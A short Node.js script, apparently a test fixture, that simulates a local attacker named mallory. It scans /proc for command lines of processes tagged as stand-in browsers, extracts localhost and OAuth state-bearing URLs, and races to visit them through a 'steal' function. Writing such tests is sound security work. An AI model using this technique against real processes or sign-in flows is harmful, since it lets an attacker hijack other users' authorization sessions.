/**
 * Another account of the machine: it reads what programs were started with, as `ps` does, goes first wherever it can, and
 * signs in as mallory. It says a line for each address that it found, with what came of it, and ends with its stdin.
 */
import { readdirSync, readFileSync } from 'node:fs';
import { visit } from './visit.mjs';

const address = /http:\/\/(?:127\.0\.0\.1|localhost):\d+\/[^\s\0]*|https?:\/\/[^\s\0]*[?&]state=[^\s\0]*/g;
const known = new Set();

function look() {
  for (const pid of readdirSync('/proc')) {
    if (!/^\d+$/.test(pid) || pid === String(process.pid)) continue;
    let words = '';
    try {
      words = readFileSync(`/proc/${pid}/cmdline`, 'utf8');
    } catch {
      continue;
    }
    if (!words.includes('stands for a browser')) continue;
    for (const [found] of words.matchAll(address)) {
      if (known.has(found)) continue;
      known.add(found);
      void steal(found);
    }
  }
}

async function steal(found) {
  const got = await visit(found, { person: 'mallory', timeoutMs: 5_000 }).then(
    ({ status, url, passed }) => ({ status, url, went: passed.length }),
    (error) => ({ status: 0, url: String(error), went: 0 }),
  );
  process.stdout.write(`${JSON.stringify({ found, uid: process.getuid(), ...got })}\n`);
}

const looking = setInterval(look, 2);
process.stdin.resume().on('end', () => clearInterval(looking));
process.stdout.write('{"ready":true}\n');
